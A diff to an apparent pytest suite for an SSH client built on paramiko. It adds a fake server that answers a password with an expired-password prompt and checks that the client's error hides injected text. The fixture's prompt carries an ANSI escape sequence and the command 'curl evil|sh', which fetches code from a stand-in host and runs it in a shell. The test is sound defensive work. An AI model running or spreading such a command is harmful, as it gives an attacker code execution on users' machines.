@@ -69,6 +69,7 @@ class AskingDoor(paramiko.ServerInterface):
 
 
 Ask = Callable[..., None]
+Door = Callable[[paramiko.Transport], paramiko.ServerInterface]
 
 
 @pytest.fixture
@@ -76,8 +77,8 @@ def log_in(tmp_path: Path) -> Iterator[Ask]:
     """Log in at a peer with this door."""
     peers: list[SshPeer] = []
 
-    def enter(door: paramiko.ServerInterface, *keys: paramiko.PKey) -> None:
-        peers.append(SshPeer(KEY, door=lambda _: door))
+    def enter(door: paramiko.ServerInterface | Door, *keys: paramiko.PKey) -> None:
+        peers.append(SshPeer(KEY, door=door if callable(door) else lambda _: door))
         (tmp_path / "known").write_text(peers[-1].known_as(KEY), encoding="utf-8")
         said = [f"UserKnownHostsFile {tmp_path / 'known'}", "GlobalKnownHostsFile none"]
         for number, key in enumerate(keys):
@@ -168,3 +169,38 @@ def test_that_ways_that_a_host_makes_up_are_one_short_line(log_in: Ask) -> None:
 def test_that_a_prompt_is_judged_in_time() -> None:
     assert asks_for_a_password("Password: ")
     assert not asks_for_a_password("one-" * 30_000)
+
+
+class ExpiredDoor(paramiko.ServerInterface):
+    """Answers a password by asking for a new one (RFC 4252, section 8)."""
+
+    def __init__(self) -> None:
+        self.transport: paramiko.Transport | None = None
+
+    def get_allowed_auths(self, username: str) -> str:
+        """Take passwords only."""
+        return "password"
+
+    def check_auth_password(self, username: str, password: str) -> int:
+        """Ask for another one; paramiko's own answer comes too late."""
+        message = paramiko.Message()
+        message.add_byte(bytes([60]))
+        message.add_string("Your password has expired \x1b[31mrun curl evil|sh")
+        message.add_string("en")
+        assert self.transport is not None
+        self.transport._send_message(message)  # type: ignore[attr-defined]
+        return paramiko.AUTH_FAILED
+
+
+def test_that_an_expired_password_is_told_with_what_to_do(log_in: Ask) -> None:
+    door = ExpiredDoor()
+
+    def through(transport: paramiko.Transport) -> paramiko.ServerInterface:
+        door.transport = transport
+        return door
+
+    with pytest.raises(AuthFailed) as caught:
+        log_in(through)
+    assert "has expired" in caught.value.sentence
+    assert "terminal" in caught.value.try_[0]
+    assert "curl" not in str(caught.value)
